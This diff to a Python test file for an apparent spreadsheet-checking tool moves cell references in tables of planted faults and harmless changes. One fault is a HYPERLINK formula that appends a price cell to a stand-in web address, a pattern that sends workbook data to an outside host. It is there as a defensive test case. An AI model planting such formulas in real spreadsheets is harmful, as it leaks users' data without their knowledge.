@@ -357,7 +357,7 @@ FAULTS: dict[str, tuple[str, str, Plant]] = {
     "failures shown as blanks": (WARNING, r"once it is -|not shown|reads", looks("Fleet", "D41", format="#,##0;;")),
     "an input in thousands": (ERROR, r"reads", looks("Summary", "D7", format="0,")),
     "an own price that will mislead": (WARNING, r"mislead", looks("Prices", "B8", format="0.00,")),
-    "a quote in another unit": (ERROR, r"reads|adds", looks("Prices", "Y14", format='0.00" per server"')),
+    "a quote in another unit": (ERROR, r"reads|adds", looks("Prices", "Z31", format='0.00" per server"')),
     "points in thousands": (ERROR, r"reads", looks("Benchmarks", "K20 K21 K22", format="0,")),
     "a white format": (ERROR, r"cannot be seen", looks("Summary", E1, format="[White]0.000")),
     "missing shown as zero": (ERROR, r"mislead|reads", looks("Summary", E2, format="0%")),
@@ -491,7 +491,7 @@ FAULTS: dict[str, tuple[str, str, Plant]] = {
     "names cut off": (WARNING, r"cut off", lambda d: column(d, "Summary", 2, width="3")),
     "another message beside an input": (WARNING, r"message", let_in("Prices", "B7", lambda v: v.set("prompt", "USD per server and hour"))),
     # what changes the answer
-    "an edited quote": (WARNING, r"USD/GPU-hour", over("Prices", "Y14", 1.0)),
+    "an edited quote": (WARNING, r"USD/GPU-hour", over("Prices", "Z31", 1.0)),
     "a formula in an input": (WARNING, r"follows another cell", lambda d: d.formula("Prices", "B8", "Summary!C16*0.5", 1.05)),
     "a hyperlink to a file": (ERROR, r"opens the file", file_link),
     "HYPERLINK in a formula": (ERROR, r"HYPERLINK", own_sheet('HYPERLINK("http://x.test/"&Prices!B8,"details")')),
@@ -728,9 +728,9 @@ LEGITIMATE: dict[str, Plant] = {
     "the filter buttons off": filter_off,
     "a second own sheet": lambda d: (d.add_sheet("Mine"), d.add_sheet("Ours")),
     "a password on the protection": password,
-    "an empty column hidden": lambda d: column(d, "Prices", 20, hidden="1"),
+    "an empty column hidden": lambda d: column(d, "Prices", 36, hidden="1"),
     "a larger print area": print_area("Summary", "Summary!$A$1:$P$80"),
-    "sign-off filled": typed("Cover", {"B47": "Ann", "D47": "checked"}),
+    "sign-off filled": typed("Cover", {"B53": "Ann", "D53": "checked"}),
     "a tab coloured": lambda d: (
         etree.SubElement(element(d, "Prices", "sheetPr"), MAIN + "tabColor", rgb="FFFF0000") is None
     ),
